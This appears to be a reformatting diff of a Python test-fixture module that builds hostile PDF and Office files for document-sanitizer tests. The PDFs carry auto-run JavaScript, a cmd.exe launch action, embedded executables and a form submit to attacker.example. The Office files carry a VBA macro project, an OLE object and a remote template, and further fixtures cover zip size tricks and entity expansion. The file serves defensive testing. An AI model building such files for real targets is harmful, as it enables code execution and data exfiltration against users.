@@ -1,5 +1,6 @@
 """Hostile documents made in code (pikepdf, python-docx, openpyxl, python-pptx, zipfile), shared by
 the document tests: nothing is downloaded."""
+
 from __future__ import annotations
 
 import io
@@ -31,6 +32,7 @@ _R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 # ---------------------------------------------------------------- PDF
 
+
 def pdf_bytes(pdf: pikepdf.Pdf, **save_options) -> bytes:
     out = io.BytesIO()
     pdf.save(out, **save_options)
@@ -56,9 +58,16 @@ def _link(rect: list[int], action: Dictionary) -> Dictionary:
 
 def _form_field(pdf: pikepdf.Pdf):
     """A text field whose keystroke and calculate scripts run as the user types."""
-    return pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("amount"), Rect=Array([72, 550, 200, 570]),
-        AA=Dictionary(K=_javascript(pdf, "app.alert('keystroke')"), C=_javascript(pdf, "app.alert('calculate')"))))
+    return pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("amount"),
+            Rect=Array([72, 550, 200, 570]),
+            AA=Dictionary(K=_javascript(pdf, "app.alert('keystroke')"), C=_javascript(pdf, "app.alert('calculate')")),
+        )
+    )
 
 
 def hostile_pdf() -> bytes:
@@ -67,22 +76,34 @@ def hostile_pdf() -> bytes:
     executable (names tree and a file-attachment annotation), and an author in Info and XMP."""
     pdf = plain_pdf(3)
     pdf.Root.OpenAction = _javascript(pdf, "app.alert('opened')")
-    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf, "app.alert('names')")])))
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf, "app.alert('names')")]))
+    )
     pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="setup.exe")
     first = pdf.pages[0]
     first.obj.AA = Dictionary(O=_javascript(pdf, "this.submitForm('http://attacker.example/')"))
-    attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([10, 10, 30, 30]),
-                            FS=pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="invoice.exe").obj)
+    attachment = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.FileAttachment,
+        Rect=Array([10, 10, 30, 30]),
+        FS=pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="invoice.exe").obj,
+    )
     launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
-    first.obj.Annots = pdf.make_indirect(Array([
-        _link([72, 700, 200, 720], launch),
-        _link([72, 650, 200, 670], Dictionary(S=Name.URI, URI=String("java\tscript:app.alert('uri')"))),
-        pdf.make_indirect(_link([72, 600, 200, 620], Dictionary(S=Name.URI, URI=String(SAFE_LINK)))),
-        pdf.make_indirect(attachment),
-        _form_field(pdf),
-    ]))
-    pdf.Root.AcroForm = Dictionary(Fields=Array([first.obj.Annots[4]]),
-                                   XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"))
+    first.obj.Annots = pdf.make_indirect(
+        Array(
+            [
+                _link([72, 700, 200, 720], launch),
+                _link([72, 650, 200, 670], Dictionary(S=Name.URI, URI=String("java\tscript:app.alert('uri')"))),
+                pdf.make_indirect(_link([72, 600, 200, 620], Dictionary(S=Name.URI, URI=String(SAFE_LINK)))),
+                pdf.make_indirect(attachment),
+                _form_field(pdf),
+            ]
+        )
+    )
+    pdf.Root.AcroForm = Dictionary(
+        Fields=Array([first.obj.Annots[4]]),
+        XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"),
+    )
     pdf.docinfo["/Author"] = AUTHOR
     pdf.docinfo["/Producer"] = "Personal Laptop PDF Writer"
     with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False) as meta:
@@ -131,6 +152,7 @@ def all_objects(pdf: pikepdf.Pdf):
 
 # ---------------------------------------------------------------- OOXML
 
+
 def zip_bytes(parts: dict[str, bytes], compresslevel: int | None = None) -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
@@ -150,8 +172,10 @@ def _add_override(types: bytes, part: str, content_type: str) -> bytes:
 
 def _add_relationship(rels: bytes, rid: str, kind: str, target: str, external: bool = False) -> bytes:
     mode = ' TargetMode="External"' if external else ""
-    return rels.replace(b"</Relationships>",
-                        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode())
+    return rels.replace(
+        b"</Relationships>",
+        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
+    )
 
 
 def plain_docx(paragraphs: int = 3, picture: bool = False) -> bytes:
@@ -179,22 +203,39 @@ def hostile_docx() -> bytes:
     parts["word/vbaProject.bin"] = VBA_PAYLOAD
     parts["word/embeddings/oleObject1.bin"] = OLE_PAYLOAD
     types = _add_override(parts["[Content_Types].xml"], "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
-    types = _add_override(types, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
+    types = _add_override(
+        types, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
+    )
     parts["[Content_Types].xml"] = types
-    rels = _add_relationship(parts["word/_rels/document.xml.rels"], "rIdVba",
-                             "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
-    parts["word/_rels/document.xml.rels"] = _add_relationship(rels, "rIdOle", _R + "oleObject", "embeddings/oleObject1.bin")
+    rels = _add_relationship(
+        parts["word/_rels/document.xml.rels"],
+        "rIdVba",
+        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+        "vbaProject.bin",
+    )
+    parts["word/_rels/document.xml.rels"] = _add_relationship(
+        rels, "rIdOle", _R + "oleObject", "embeddings/oleObject1.bin"
+    )
     parts["word/document.xml"] = parts["word/document.xml"].replace(
-        b"</w:body>", f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
-                      f'xmlns:r="{_REL_NS}" r:id="rIdOle" ProgID="Package"/></w:object></w:r></w:p></w:body>'.encode(), 1)
+        b"</w:body>",
+        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
+        f'xmlns:r="{_REL_NS}" r:id="rIdOle" ProgID="Package"/></w:object></w:r></w:p></w:body>'.encode(),
+        1,
+    )
     parts["word/settings.xml"] = re.sub(
-        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', parts["word/settings.xml"], count=1)
+        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', parts["word/settings.xml"], count=1
+    )
     parts["word/_rels/settings.xml.rels"] = _add_relationship(
         b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
         b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
-        "rIdTpl", _R + "attachedTemplate", REMOTE_TEMPLATE, external=True)
+        "rIdTpl",
+        _R + "attachedTemplate",
+        REMOTE_TEMPLATE,
+        external=True,
+    )
     parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
-        b"</Properties>", f"<Company>{COMPANY}</Company><Manager>{AUTHOR}</Manager></Properties>".encode())
+        b"</Properties>", f"<Company>{COMPANY}</Company><Manager>{AUTHOR}</Manager></Properties>".encode()
+    )
     return zip_bytes(parts)
 
 
@@ -203,7 +244,8 @@ def macro_enabled_docx() -> bytes:
     parts = zip_parts(hostile_docx())
     parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
         b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
-        b"application/vnd.ms-word.document.macroEnabled.main+xml")
+        b"application/vnd.ms-word.document.macroEnabled.main+xml",
+    )
     return zip_bytes(parts)
 
 
@@ -223,11 +265,11 @@ def with_understated_size(data: bytes, name: str, declared: int) -> bytes:
         info, central = archive.getinfo(name), archive.start_dir
     patched = bytearray(data)
     size = declared.to_bytes(4, "little")
-    patched[info.header_offset + 22:info.header_offset + 26] = size  # local file header
-    while data[central + 46:central + 46 + len(name)] != name.encode():  # walk the central directory
-        lengths = [int.from_bytes(data[central + at:central + at + 2], "little") for at in (28, 30, 32)]
+    patched[info.header_offset + 22 : info.header_offset + 26] = size  # local file header
+    while data[central + 46 : central + 46 + len(name)] != name.encode():  # walk the central directory
+        lengths = [int.from_bytes(data[central + at : central + at + 2], "little") for at in (28, 30, 32)]
         central += 46 + sum(lengths)
-    patched[central + 24:central + 28] = size  # central directory
+    patched[central + 24 : central + 28] = size  # central directory
     return bytes(patched)
 
 
@@ -245,14 +287,20 @@ def docx_with_document_xml(document_xml: bytes) -> bytes:
 
 def nested_document_xml(depth: int) -> bytes:
     w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
-    return (f'<w:document xmlns:w="{w}"><w:body>' + "<w:sdt><w:sdtContent>" * depth
-            + "</w:sdtContent></w:sdt>" * depth + "</w:body></w:document>").encode()
+    return (
+        f'<w:document xmlns:w="{w}"><w:body>'
+        + "<w:sdt><w:sdtContent>" * depth
+        + "</w:sdtContent></w:sdt>" * depth
+        + "</w:body></w:document>"
+    ).encode()
 
 
 def document_xml_with_dtd() -> bytes:
-    return (b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
-            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
-            b"<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>")
+    return (
+        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        b"<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
+    )
 
 
 def xlsx(sheets: int, link: str | None = None) -> bytes:
@@ -288,5 +336,11 @@ def pptx_file(slides: int, link: str | None = None) -> bytes:
 
 def encrypted_office_file() -> bytes:
     """What Office writes for a password-protected DOCX: an OLE compound file, not a ZIP."""
-    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le")
-            + b"\0" * 64 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 1024)
+    return (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
+        + b"\0" * 504
+        + "EncryptionInfo".encode("utf-16-le")
+        + b"\0" * 64
+        + "EncryptedPackage".encode("utf-16-le")
+        + b"\0" * 1024
+    )
